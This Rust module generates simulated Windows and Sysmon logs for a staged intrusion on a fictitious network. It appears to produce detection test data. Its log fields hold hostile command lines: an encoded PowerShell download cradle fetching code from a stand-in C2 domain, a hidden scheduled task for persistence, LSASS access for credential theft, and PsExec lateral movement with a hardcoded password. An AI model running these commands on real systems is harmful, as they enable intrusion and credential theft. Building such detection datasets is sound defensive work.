//! The `intrusion` scenario: phishing macro on `WS-FIN-07`, encoded PowerShell, LSASS access,
//! scheduled-task persistence, PsExec to `SRV-FILE-01`, and C2 beaconing, over benign
//! background activity on every host of `corp.example`.

use sha2::{Digest, Sha256};

use super::{Draft, Log, PlanParts, Rng, ScenarioConfig, Source, powershell_b64};

mod background;
use background::Background;

/// Host table: `Computer` values, indexed by `Draft::host`.
const HOSTS: &[&str] = &[
    "WS-FIN-07.corp.example",
    "WS-HR-02.corp.example",
    "WS-ENG-11.corp.example",
    "WS-SALES-04.corp.example",
    "WS-IT-01.corp.example",
    "SRV-FILE-01.corp.example",
    "DC-01.corp.example",
];
const SHORT: &[&str] = &[
    "WS-FIN-07",
    "WS-HR-02",
    "WS-ENG-11",
    "WS-SALES-04",
    "WS-IT-01",
    "SRV-FILE-01",
    "DC-01",
];
const IPS: &[&str] = &[
    "10.10.20.57",
    "10.10.20.32",
    "10.10.20.71",
    "10.10.20.44",
    "10.10.20.15",
    "10.10.10.20",
    "10.10.10.10",
];
/// Primary interactive user of each workstation (servers have none).
const USERS: &[&str] = &["j.doe", "a.smith", "m.chen", "r.patel", "it.admin"];
const WORKSTATIONS: usize = 5;
const IT_WS: usize = 4;
const VICTIM: usize = 0;
const SERVER: usize = 5;
const DC: usize = 6;

pub(super) const ATTACK_HOSTS: &[&str] = &["WS-FIN-07.corp.example", "SRV-FILE-01.corp.example"];

const C2_DOMAIN: &str = "cdn-update.example.net";
const C2_IPS: &[&str] = &["203.0.113.47", "198.51.100.23", "192.0.2.150"];
const PHISH_ATTACHMENT: &str = "Invoice_4471.docm";

const SYSTEM: &str = "NT AUTHORITY\\SYSTEM";
const EXPLORER: &str = "C:\\Windows\\explorer.exe";
const CHROME: &str = "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe";
const OFFICE: &str = "C:\\Program Files\\Microsoft Office\\root\\Office16\\";
const SVCHOST: &str = "C:\\Windows\\System32\\svchost.exe";
const SERVICES: &str = "C:\\Windows\\System32\\services.exe";
const POWERSHELL: &str = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
const LSASS: &str = "C:\\Windows\\system32\\lsass.exe";
const MSMPENG: &str =
    "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24090.11-0\\MsMpEng.exe";
const PSEXESVC: &str = "C:\\Windows\\PSEXESVC.exe";

/// Attack begins this long after `cfg.start`.
const LEAD_MS: i64 = 5 * 60_000;
/// Fewest beacon events (both hosts together); they span the chain's ~18 minutes.
const MIN_BEACON_EVENTS: usize = 24;
const BEACON_MS: i64 = 60_000;

/// A process as Sysmon describes it.
#[derive(Clone)]
struct Proc {
    guid: String,
    pid: u64,
    image: String,
    original: &'static str,
    cmd: String,
    user: String,
    cwd: String,
    integrity: &'static str,
}

impl Proc {
    fn new(rng: &mut Rng, image: impl Into<String>, original: &'static str) -> Self {
        let image = image.into();
        Self {
            guid: rng.guid(),
            pid: rng.pid(),
            cmd: format!("\"{image}\""),
            image,
            original,
            user: SYSTEM.to_owned(),
            cwd: "C:\\Windows\\system32\\".to_owned(),
            integrity: "System",
        }
    }

    fn cmd(mut self, cmd: impl Into<String>) -> Self {
        self.cmd = cmd.into();
        self
    }

    /// Runs as a domain user at medium integrity in the user's profile.
    fn for_user(mut self, user: &str) -> Self {
        self.user = format!("CORP\\{user}");
        self.cwd = format!("C:\\Users\\{user}\\");
        self.integrity = "Medium";
        self
    }
}

/// `Hashes` value derived from the image path (stable, realistic shape).
fn hashes(image: &str) -> String {
    let h = Sha256::digest(image.to_ascii_lowercase().as_bytes());
    let mut s = String::with_capacity(112);
    s.push_str("SHA256=");
    push_hex(&mut s, &h, true);
    s.push_str(",IMPHASH=");
    push_hex(&mut s, &h[..16], true);
    s
}

fn push_hex(out: &mut String, bytes: &[u8], upper: bool) {
    let digits: &[u8; 16] = if upper {
        b"0123456789ABCDEF"
    } else {
        b"0123456789abcdef"
    };
    for b in bytes {
        out.push(char::from(digits[usize::from(b >> 4)]));
        out.push(char::from(digits[usize::from(b & 15)]));
    }
}

fn sha_hex(data: &str) -> String {
    let mut s = String::with_capacity(64);
    push_hex(&mut s, &Sha256::digest(data.as_bytes()), false);
    s
}

/// Sysmon EID 1.
fn proc_create(t: i64, host: usize, p: &Proc, parent: &Proc) -> Draft {
    Draft::new(t, host, Log::Sysmon, 1)
        .f("RuleName", "-")
        .f("ProcessGuid", p.guid.as_str())
        .f("ProcessId", p.pid)
        .f("Image", p.image.as_str())
        .f("OriginalFileName", p.original)
        .f("CommandLine", p.cmd.as_str())
        .f("CurrentDirectory", p.cwd.as_str())
        .f("User", p.user.as_str())
        .f("IntegrityLevel", p.integrity)
        .f("Hashes", hashes(&p.image))
        .f("ParentProcessGuid", parent.guid.as_str())
        .f("ParentProcessId", parent.pid)
        .f("ParentImage", parent.image.as_str())
        .f("ParentCommandLine", parent.cmd.as_str())
        .f("ParentUser", parent.user.as_str())
}

/// Sysmon EID 3 (outbound TCP).
fn net_conn(t: i64, host: usize, p: &Proc, dst: (&str, &str), port: u64, rng: &mut Rng) -> Draft {
    Draft::new(t, host, Log::Sysmon, 3)
        .f("RuleName", "-")
        .f("ProcessGuid", p.guid.as_str())
        .f("ProcessId", p.pid)
        .f("Image", p.image.as_str())
        .f("User", p.user.as_str())
        .f("Protocol", "tcp")
        .f("Initiated", "true")
        .f("SourceIsIpv6", "false")
        .f("SourceIp", IPS[host])
        .f("SourceHostname", HOSTS[host])
        .f("SourcePort", rng.range(49_700, 65_000))
        .f("DestinationIsIpv6", "false")
        .f("DestinationIp", dst.0)
        .f("DestinationHostname", dst.1)
        .f("DestinationPort", port)
}

/// Sysmon EID 22 (A record answered).
fn dns(t: i64, host: usize, p: &Proc, name: &str, ip: &str) -> Draft {
    Draft::new(t, host, Log::Sysmon, 22)
        .f("RuleName", "-")
        .f("ProcessGuid", p.guid.as_str())
        .f("ProcessId", p.pid)
        .f("QueryName", name)
        .f("QueryStatus", "0")
        .f("QueryResults", format!("::ffff:{ip};"))
        .f("Image", p.image.as_str())
        .f("User", p.user.as_str())
}

/// Sysmon EID 10.
fn proc_access(t: i64, host: usize, src: &Proc, dst: &Proc, access: &str, trace: &str) -> Draft {
    Draft::new(t, host, Log::Sysmon, 10)
        .f("RuleName", "-")
        .f("SourceProcessGUID", src.guid.as_str())
        .f("SourceProcessId", src.pid)
        .f("SourceThreadId", src.pid + 12)
        .f("SourceImage", src.image.as_str())
        .f("TargetProcessGUID", dst.guid.as_str())
        .f("TargetProcessId", dst.pid)
        .f("TargetImage", dst.image.as_str())
        .f("GrantedAccess", access)
        .f("CallTrace", trace)
        .f("SourceUser", src.user.as_str())
        .f("TargetUser", dst.user.as_str())
}

/// Sysmon EID 17 (created) / 18 (connected).
fn pipe(t: i64, host: usize, eid: u32, p: &Proc, name: &str) -> Draft {
    let kind = if eid == 17 {
        "CreatePipe"
    } else {
        "ConnectPipe"
    };
    Draft::new(t, host, Log::Sysmon, eid)
        .f("RuleName", "-")
        .f("EventType", kind)
        .f("ProcessGuid", p.guid.as_str())
        .f("ProcessId", p.pid)
        .f("PipeName", name)
        .f("Image", p.image.as_str())
        .f("User", p.user.as_str())
}

/// Security 4624 / 4634.
fn logon(
    t: i64,
    host: usize,
    eid: u32,
    user: &str,
    logon_type: u64,
    from: usize,
    rng: &mut Rng,
) -> Draft {
    let (ip, ws, package) = match logon_type {
        3 => (IPS[from], SHORT[from], "Kerberos"),
        _ => ("127.0.0.1", SHORT[host], "Negotiate"),
    };
    let d = Draft::new(t, host, Log::Security, eid)
        .f(
            "TargetUserSid",
            format!(
                "S-1-5-21-3623811015-3361044348-30300820-{}",
                1100 + user.len()
            ),
        )
        .f("TargetUserName", user)
        .f("TargetDomainName", "CORP")
        .f(
            "TargetLogonId",
            format!("0x{:x}", rng.range(0x10_0000, 0xff_ffff)),
        )
        .f("LogonType", logon_type);
    if eid != 4624 {
        return d;
    }
    d.f("SubjectUserSid", "S-1-0-0")
        .f("SubjectUserName", "-")
        .f("SubjectDomainName", "-")
        .f(
            "LogonProcessName",
            if logon_type == 3 {
                "Kerberos"
            } else {
                "User32"
            },
        )
        .f("AuthenticationPackageName", package)
        .f("WorkstationName", ws)
        .f("IpAddress", ip)
        .f(
            "IpPort",
            if logon_type == 3 {
                rng.range(49_700, 65_000)
            } else {
                0
            },
        )
        .f(
            "ProcessName",
            if logon_type == 3 {
                "-"
            } else {
                "C:\\Windows\\System32\\svchost.exe"
            },
        )
}

/// System 7045.
fn service_install(t: i64, host: usize, name: &str, path: &str) -> Draft {
    Draft::new(t, host, Log::System, 7045)
        .f("ServiceName", name)
        .f("ImagePath", path)
        .f("ServiceType", "user mode service")
        .f("StartType", "demand start")
        .f("AccountName", "LocalSystem")
}

fn task_xml(command: &str, args: &str, trigger: &str) -> String {
    format!(
        "<?xml version=\"1.0\" encoding=\"UTF-16\"?><Task version=\"1.2\" xmlns=\"http://schemas.microsoft.com/windows/2004/02/mit/task\"><Triggers>{trigger}</Triggers><Actions Context=\"Author\"><Exec><Command>{command}</Command><Arguments>{args}</Arguments></Exec></Actions></Task>"
    )
}

/// Builds the sources of one run.
pub(super) fn plan(cfg: &ScenarioConfig) -> PlanParts {
    let root = Rng::new(cfg.seed);
    let start = cfg.start.timestamp_millis();
    let attack_start = start + LEAD_MS;
    let mut chain_rng = root.fork(1);
    let c2_ip = *chain_rng.pick(C2_IPS);
    let (chain, implants) = chain(attack_start, c2_ip, &mut chain_rng);

    let ratio = if cfg.benign_ratio.is_nan() {
        0.9
    } else {
        cfg.benign_ratio.clamp(0.0, 1.0)
    };
    // A benign ratio of 1 is a benign-only stream: no chain, no beacons (the false-positive
    // baseline: nothing in it may conclude an incident).
    let benign_only = ratio >= 1.0;
    let chain = if benign_only { Vec::new() } else { chain };
    let wanted_attack = (cfg.events as f64 * (1.0 - ratio)).round() as usize;
    let beacons = if benign_only {
        0
    } else {
        wanted_attack
            .saturating_sub(chain.len())
            .max(MIN_BEACON_EVENTS)
    };
    let background = cfg.events.saturating_sub(chain.len() + beacons);

    // ~1.2 events per beacon tick and minute and host, two hosts.
    let beacon_ms = (beacons as i64 * BEACON_MS * 10) / 24;
    let chain_end = chain.last().map_or(attack_start, |d| d.t_ms);
    let end = (attack_start + 190_000 + beacon_ms).max(chain_end) + LEAD_MS;

    let mut attack: Vec<Box<dyn Source>> = vec![Box::new(chain.into_iter())];
    let victim_share = beacons - beacons / 2;
    for (i, (implant, quota)) in implants
        .into_iter()
        .zip([victim_share, beacons / 2])
        .enumerate()
    {
        attack.push(Box::new(Beacon {
            rng: root.fork(10 + i as u64),
            implant,
            c2_ip,
            left: quota,
            pending: None,
        }));
    }
    let background: Vec<Box<dyn Source>> = vec![Box::new(Background::new(
        root.fork(2),
        start,
        end - start,
        background as u64,
    ))];
    PlanParts {
        hosts: HOSTS,
        attack,
        background,
    }
}

impl Source for std::vec::IntoIter<Draft> {
    fn next_draft(&mut self) -> Option<Draft> {
        self.next()
    }
}

/// A process that beacons: host, process, first tick.
struct Implant {
    host: usize,
    proc: Proc,
    first_ms: i64,
}

/// The fixed attack chain (time-sorted) and the two implants that beacon afterwards.
fn chain(a: i64, c2_ip: &str, rng: &mut Rng) -> (Vec<Draft>, Vec<Implant>) {
    let s = |secs: f64| a + (secs * 1000.0) as i64;
    let user = USERS[VICTIM];
    let victim_up = format!("{user}@corp.example");
    let cradle = format!(
        "IEX (New-Object Net.WebClient).DownloadString('https://{C2_DOMAIN}/jquery-3.3.1.min.js')"
    );
    let enc = powershell_b64(&cradle);
    let mut out = Vec::with_capacity(32);

    // 1. Phishing email.
    let sha = sha_hex(&format!("{PHISH_ATTACHMENT}{}", rng.next_u64()));
    out.push(
        Draft::new(s(0.0), VICTIM, Log::Email, 0)
            .f(
                "MessageId",
                format!(
                    "<{:016x}@mail.northwind-billing.example.org>",
                    rng.next_u64()
                ),
            )
            .f("From", "accounts@northwind-billing.example.org")
            .f("ReplyTo", "payments.desk@mailbox-relay.example.com")
            .f("To", victim_up.as_str())
            .f("Subject", "Overdue invoice 4471 - action required")
            .f("AttachmentName", PHISH_ATTACHMENT)
            .f("AttachmentSha256", sha)
            .f("SpfResult", "fail")
            .f("DkimResult", "none")
            .f("DmarcResult", "fail")
            .f(
                "Url",
                "https://northwind-billing.example.org/portal/invoice/4471",
            ),
    );

    // 2. Word opens the attachment and spawns encoded PowerShell.
    let outlook = Proc::new(rng, format!("{OFFICE}OUTLOOK.EXE"), "Outlook.exe").for_user(user);
    let word = Proc::new(rng, format!("{OFFICE}WINWORD.EXE"), "WinWord.exe")
        .for_user(user)
        .cmd(format!(
            "\"{OFFICE}WINWORD.EXE\" /n \"C:\\Users\\{user}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\Q7M2ZK1B\\{PHISH_ATTACHMENT}\" /o \"\""
        ));
    out.push(proc_create(s(95.0), VICTIM, &word, &outlook));
    let ps = Proc::new(rng, POWERSHELL, "PowerShell.EXE")
        .for_user(user)
        .cmd(format!("powershell.exe -NoP -W Hidden -enc {enc}"));
    out.push(proc_create(s(131.0), VICTIM, &ps, &word));
    out.push(dns(s(132.4), VICTIM, &ps, C2_DOMAIN, c2_ip));
    out.push(net_conn(s(132.9), VICTIM, &ps, (c2_ip, "-"), 443, rng));

    // Discovery.
    for (at, exe, orig, args) in [
        (248.0, "whoami.exe", "whoami.exe", "whoami.exe /all"),
        (
            263.0,
            "net.exe",
            "net.exe",
            "net.exe group \"Domain Admins\" /domain",
        ),
    ] {
        let p = Proc::new(rng, format!("C:\\Windows\\System32\\{exe}"), orig)
            .for_user(user)
            .cmd(args);
        out.push(proc_create(s(at), VICTIM, &p, &ps));
    }

    // 3. LSASS memory access: in-memory credential theft, then a minidump.
    let lsass = Proc::new(rng, LSASS, "lsass.exe");
    let unknown = format!(
        "UNKNOWN({:016X})",
        0x7ff8_0000_0000u64 + rng.below(0xffff_ffff)
    );
    out.push(proc_access(
        s(300.0),
        VICTIM,
        &ps,
        &lsass,
        "0x1010",
        &format!("C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e|{unknown}|{unknown}"),
    ));
    out.push(proc_access(
        s(301.2),
        VICTIM,
        &ps,
        &lsass,
        "0x1fffff",
        &format!(
            "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e|C:\\Windows\\SYSTEM32\\dbgcore.dll+a5b2|C:\\Windows\\SYSTEM32\\dbghelp.dll+2e1f0|{unknown}"
        ),
    ));

    // 4. Scheduled-task persistence.
    let script = format!("C:\\Users\\{user}\\AppData\\Roaming\\Microsoft\\Windows\\edgeupd.ps1");
    let task = "MicrosoftEdgeUpdateTaskCoreSvc";
    let schtasks = Proc::new(rng, "C:\\Windows\\System32\\schtasks.exe", "schtasks.exe")
        .for_user(user)
        .cmd(format!(
            "\"C:\\Windows\\system32\\schtasks.exe\" /create /tn {task} /sc onlogon /tr \"powershell.exe -w hidden -ep bypass -File {script}\" /f"
        ));
    out.push(proc_create(s(425.0), VICTIM, &schtasks, &ps));
    out.push(
        Draft::new(s(425.3), VICTIM, Log::Security, 4698)
            .f(
                "SubjectUserSid",
                "S-1-5-21-3623811015-3361044348-30300820-1105",
            )
            .f("SubjectUserName", user)
            .f("SubjectDomainName", "CORP")
            .f("TaskName", format!("\\{task}"))
            .f(
                "TaskContent",
                task_xml(
                    "powershell.exe",
                    &format!("-w hidden -ep bypass -File {script}"),
                    "<LogonTrigger><Enabled>true</Enabled></LogonTrigger>",
                ),
            ),
    );

    // 5. PsExec to the file server with stolen admin credentials.
    let psexec = Proc::new(rng, format!("C:\\Users\\{user}\\AppData\\Local\\Temp\\PsExec64.exe"), "psexec.c")
        .for_user(user)
        .cmd(format!(
            "PsExec64.exe -accepteula \\\\{} -u CORP\\it.admin -p Winter2024! -s -d powershell.exe -nop -w hidden -enc {enc}",
            SHORT[SERVER]
        ));
    out.push(proc_create(s(560.0), VICTIM, &psexec, &ps));
    out.push(net_conn(
        s(560.6),
        VICTIM,
        &psexec,
        (IPS[SERVER], HOSTS[SERVER]),
        445,
        rng,
    ));
    out.push(
        logon(s(561.1), SERVER, 4624, "it.admin", 3, VICTIM, rng)
            .f("AuthenticationPackageName", "NTLM")
            .f("LogonProcessName", "NtLmSsp")
            .f("WorkstationName", SHORT[VICTIM]),
    );
    out.push(service_install(
        s(561.9),
        SERVER,
        "PSEXESVC",
        "%SystemRoot%\\PSEXESVC.exe",
    ));
    let services = Proc::new(rng, SERVICES, "services.exe");
    let svc = Proc::new(rng, PSEXESVC, "psexesvc.exe").cmd(PSEXESVC);
    out.push(proc_create(s(562.0), SERVER, &svc, &services));
    out.push(pipe(s(562.3), SERVER, 17, &svc, "\\PSEXESVC"));
    let system = Proc {
        image: "System".into(),
        pid: 4,
        ..Proc::new(rng, "System", "")
    };
    out.push(pipe(s(562.6), SERVER, 18, &system, "\\PSEXESVC"));
    for (i, suffix) in ["stdin", "stdout", "stderr"].into_iter().enumerate() {
        let name = format!("\\PSEXESVC-{}-{}-{suffix}", SHORT[VICTIM], psexec.pid);
        out.push(pipe(s(563.0 + i as f64 * 0.05), SERVER, 17, &svc, &name));
    }
    let srv_ps = Proc::new(rng, POWERSHELL, "PowerShell.EXE")
        .cmd(format!("\"powershell.exe\" -nop -w hidden -enc {enc}"));
    out.push(proc_create(s(563.5), SERVER, &srv_ps, &svc));
    out.push(dns(s(565.0), SERVER, &srv_ps, C2_DOMAIN, c2_ip));
    out.push(net_conn(s(565.4), SERVER, &srv_ps, (c2_ip, "-"), 443, rng));
    out.push(logon(s(575.0), SERVER, 4634, "it.admin", 3, VICTIM, rng));

    out.sort_by_key(|d| d.t_ms);
    let implants = vec![
        Implant {
            host: VICTIM,
            proc: ps,
            first_ms: s(190.0),
        },
        Implant {
            host: SERVER,
            proc: srv_ps,
            first_ms: s(625.0),
        },
    ];
    (out, implants)
}

/// C2 beaconing of one implant: a connection every ~60 s, a DNS lookup every few ticks.
struct Beacon {
    rng: Rng,
    implant: Implant,
    c2_ip: &'static str,
    left: usize,
    pending: Option<Draft>,
}

impl Source for Beacon {
    fn next_draft(&mut self) -> Option<Draft> {
        if self.left == 0 {
            return None;
        }
        self.left -= 1;
        if let Some(d) = self.pending.take() {
            return Some(d);
        }
        let Implant {
            host,
            proc,
            first_ms,
        } = &mut self.implant;
        let t = *first_ms;
        *first_ms += BEACON_MS + self.rng.range(0, 9_000) as i64 - 4_000;
        let conn = net_conn(t + 350, *host, proc, (self.c2_ip, "-"), 443, &mut self.rng);
        if self.rng.chance(200) {
            self.pending = Some(conn);
            return Some(dns(t, *host, proc, C2_DOMAIN, self.c2_ip));
        }
        Some(conn)
    }
}
